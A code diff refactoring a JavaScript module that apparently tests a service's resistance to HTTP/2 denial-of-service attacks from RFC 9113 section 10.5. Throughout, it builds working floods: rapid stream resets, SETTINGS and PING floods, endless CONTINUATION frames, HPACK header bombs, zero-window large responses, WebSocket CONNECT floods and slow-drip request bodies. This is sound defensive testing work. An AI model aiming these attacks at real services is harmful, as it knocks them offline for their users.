@@ -1,7 +1,7 @@
 /** Frames and streams of HTTP/2 that cost the service more than the client: RFC 9113 section 10.5. */
 
 import { setTimeout as sleep } from 'node:timers/promises';
-import { flood } from '../attacker.js';
+import { attacksOf, flood } from '../attacker.js';
 import {
   begin,
   beginStreams,
@@ -18,36 +18,25 @@ import {
   uint32,
 } from '../http2-frames.js';
 
-const flags = ['--h2c'];
 const whole = endHeaders | endStream;
 
-/** No proxy forwards these frames as they are, and frames come before accounts. */
-const isFor = (/** @type {import('../attacker.js').Mode} */ { isProxied, hasAccounts }) =>
-  !isProxied && !hasAccounts;
-
-/** @typedef {import('node:net').Socket} Socket */
+/**
+ * @typedef {import('node:net').Socket} Socket
+ * @typedef {import('../attacker.js').Attack['run']} Run
+ */
 
 /**
- * An attack that floods 20 connections with pieces, as fast as they are accepted, and replaces those that are cut.
+ * Floods 20 connections with pieces, as fast as they are accepted, and replaces those that are cut.
  *
- * @param {string} name
  * @param {(place: number) => Buffer} pieceAt
- * @returns {import('../attacker.js').Attack}
+ * @returns {Run}
  */
-const floodOf = (name, pieceAt) => ({
-  name: `HTTP/2: ${name}, on 20 connections`,
-  isFor,
-  flags,
-  run: (attacker) =>
-    attacker.repeat(20, async () => {
-      const [socket] = await attacker.openMany(1, (opened) => {
-        opened.resume();
-        opened.write(begin());
-        flood(opened, (place) => (attacker.isOver() ? undefined : pieceAt(place)));
-      });
-      if (!socket?.destroyed) await new Promise((resolve) => socket?.once('close', resolve));
-    }),
-});
+const floodOf = (pieceAt) => (attacker) =>
+  attacker.reopen(20, (socket) => {
+    socket.resume();
+    socket.write(begin());
+    flood(socket, (place) => (attacker.isOver() ? undefined : pieceAt(place)));
+  });
 
 /** @param {(place: number) => Buffer} make @param {number} [count] */
 const batch =
@@ -60,27 +49,21 @@ const postHead = requestBlock('POST', '/api/methods/post', { 'content-type': 'te
 const large = requestBlock('GET', '/openapi.json');
 
 /**
- * An attack that requests 5,000 large responses on 50 connections.
+ * Requests 5,000 large responses on 50 connections.
  *
- * @param {string} name
  * @param {number} window Of each stream
  * @param {(attacker: import('../attacker.js').Attacker, socket: Socket) => void} [use] By default, nothing is read
- * @returns {import('../attacker.js').Attack}
  */
-const largeResponses = (name, window, use = () => {}) => ({
-  name: `HTTP/2: 5,000 large answers ${name}`,
-  isFor,
-  flags,
+const largeResponses = (window, use = () => {}) => ({
   // Renders the response, which happens once.
-  prepare: (attacker) => attacker.ask('GET', '/openapi.json'),
-  async run(attacker) {
-    await attacker.openMany(50, (socket) => {
+  prepare: (/** @type {import('../attacker.js').Attacker} */ attacker) =>
+    attacker.ask('GET', '/openapi.json'),
+  run: (/** @type {import('../attacker.js').Attacker} */ attacker) =>
+    attacker.hold(50, (socket) => {
       socket.pause();
       socket.write(beginStreams(large, window));
       use(attacker, socket);
-    });
-    await attacker.untilOver();
-  },
+    }),
 });
 
 /** The first request stores it in the table; each byte of the others repeats it: 4,000 bytes, sixty times. */
@@ -90,89 +73,84 @@ const keptField = Buffer.concat([
 ]);
 const bomb = Buffer.concat([requestBlock('GET', '/health'), Buffer.alloc(60, 0xbe)]);
 
-/** @type {readonly import('../attacker.js').Attack[]} */
-export const http2Attacks = [
-  floodOf(
-    'requests that are reset at once',
-    batch((place) =>
-      Buffer.concat([
-        frame(types.headers, whole, streamAt(place), getHead),
-        frame(types.rstStream, 0, streamAt(place), uint32(8)),
-      ]),
-    ),
-  ),
-  floodOf(
-    'floods of SETTINGS',
-    batch(() => frame(types.settings, 0, 0)),
-  ),
-  floodOf(
-    'floods of PING',
-    batch(() => frame(types.ping, 0, 0, Buffer.alloc(8))),
-  ),
-  floodOf('headers that go on without end', (turn) =>
-    turn === 0
-      ? frame(types.headers, 0, 1, getHead)
-      : frame(types.continuation, 0, 1, requestBlock('GET', '/', { x: 'a'.repeat(100) })),
-  ),
-  floodOf('headers that unpack to 240 KB', (turn) =>
-    turn === 0
-      ? frame(types.headers, whole, 1, Buffer.concat([getHead, keptField]))
-      : batch((place) => frame(types.headers, whole, streamAt(place + 1), bomb))(turn - 1),
-  ),
-  largeResponses('in windows of nothing', 0),
-  largeResponses('in windows that open by a byte', 0, (attacker, socket) => {
-    const crumbs = onEachStream((stream) => openWindow(stream, 1));
-    socket.resume();
-    flood(socket, () => (attacker.isOver() ? undefined : crumbs));
-  }),
-  largeResponses('on 50 connections that are not read', maxWindow),
+export const http2Attacks = attacksOf(
   {
-    name: 'HTTP/2: 5,000 WebSockets on 50 connections that take nothing',
-    isFor,
-    flags,
-    async run(attacker) {
+    'HTTP/2: requests that are reset at once, on 20 connections': floodOf(
+      batch((place) =>
+        Buffer.concat([
+          frame(types.headers, whole, streamAt(place), getHead),
+          frame(types.rstStream, 0, streamAt(place), uint32(8)),
+        ]),
+      ),
+    ),
+    'HTTP/2: floods of SETTINGS, on 20 connections': floodOf(
+      batch(() => frame(types.settings, 0, 0)),
+    ),
+    'HTTP/2: floods of PING, on 20 connections': floodOf(
+      batch(() => frame(types.ping, 0, 0, Buffer.alloc(8))),
+    ),
+    'HTTP/2: headers that go on without end, on 20 connections': floodOf((turn) =>
+      turn === 0
+        ? frame(types.headers, 0, 1, getHead)
+        : frame(types.continuation, 0, 1, requestBlock('GET', '/', { x: 'a'.repeat(100) })),
+    ),
+    'HTTP/2: headers that unpack to 240 KB, on 20 connections': floodOf((turn) =>
+      turn === 0
+        ? frame(types.headers, whole, 1, Buffer.concat([getHead, keptField]))
+        : batch((place) => frame(types.headers, whole, streamAt(place + 1), bomb))(turn - 1),
+    ),
+    'HTTP/2: 5,000 large answers in windows of nothing': largeResponses(0),
+    'HTTP/2: 5,000 large answers in windows that open by a byte': largeResponses(
+      0,
+      (attacker, socket) => {
+        const crumbs = onEachStream((stream) => openWindow(stream, 1));
+        socket.resume();
+        flood(socket, () => (attacker.isOver() ? undefined : crumbs));
+      },
+    ),
+    'HTTP/2: 5,000 large answers on 50 connections that are not read': largeResponses(maxWindow),
+    'HTTP/2: 5,000 WebSockets on 50 connections that take nothing': (attacker) => {
       const path = '/api/ws/push?interval=0&size=60000&count=1000';
-      const head = requestBlock('CONNECT', path, {
-        ':protocol': 'websocket',
-        'sec-websocket-version': '13',
-      });
+      const protocol = { ':protocol': 'websocket', 'sec-websocket-version': '13' };
+      const head = requestBlock('CONNECT', path, protocol);
       const heads = onEachStream((stream) => frame(types.headers, endHeaders, stream, head));
-      await attacker.openMany(50, (socket) => {
+      return attacker.hold(50, (socket) => {
         socket.resume();
         socket.write(Buffer.concat([begin(0), heads]));
       });
-      await attacker.untilOver();
     },
+    'HTTP/2: 5,000 bodies of a byte every two seconds': { seconds: 45, run: sendSlowBodies },
   },
   {
-    name: 'HTTP/2: 5,000 bodies of a byte every two seconds',
-    seconds: 45,
-    isFor,
-    flags,
-    async run(attacker) {
-      /** @type {Set<string>} */
-      const open = new Set();
-      const sockets = await attacker.openMany(50, (socket, index) => {
-        for (let place = 0; place < streamsEach; place++) open.add(`${index} ${streamAt(place)}`);
-        watchStreams(socket, (stream) => open.delete(`${index} ${stream}`));
-        socket.write(beginStreams(postHead, undefined, endHeaders));
-      });
-      while (!attacker.isOver()) {
-        for (const [index, socket] of sockets.entries()) {
-          for (let place = 0; place < streamsEach; place++) {
-            const stream = streamAt(place);
-            if (socket.destroyed || !open.has(`${index} ${stream}`)) continue;
-            socket.write(frame(types.data, 0, stream, Buffer.from('x')));
-          }
-        }
-        await sleep(2000);
-      }
-      // A short run ends before they are too slow.
-      if (attacker.isShort || open.size === 0) return [];
-      return [`${open.size} bodies slower than 1 KiB/s for 30 s were not cut`];
-    },
+    flags: ['--h2c'],
+    // No proxy forwards these frames as they are, and frames come before accounts.
+    isFor: ({ isProxied, hasAccounts }) => !isProxied && !hasAccounts,
   },
-];
+);
+
+/** @param {import('../attacker.js').Attacker} attacker */
+async function sendSlowBodies(attacker) {
+  /** @type {Map<Socket, Set<number>>} */
+  const open = new Map();
+  await attacker.openMany(50, (socket) => {
+    const streams = Array.from({ length: streamsEach }, (_, place) => streamAt(place));
+    const own = new Set(streams);
+    open.set(socket, own);
+    watchStreams(socket, (stream) => own.delete(stream));
+    socket.write(beginStreams(postHead, undefined, endHeaders));
+  });
+  while (!attacker.isOver()) {
+    for (const [socket, streams] of open) {
+      if (socket.destroyed) open.delete(socket);
+      for (const stream of streams) socket.write(frame(types.data, 0, stream, Buffer.from('x')));
+    }
+    await sleep(2000);
+  }
+  const count = [...open.values()].reduce((sum, { size }) => sum + size, 0);
+  // A short run ends before they are too slow.
+  if (attacker.isShort || count === 0) return [];
+  return [`${count} bodies slower than 1 KiB/s for 30 s were not cut`];
+}
 
 /**
  * Reports each stream that the service ends.
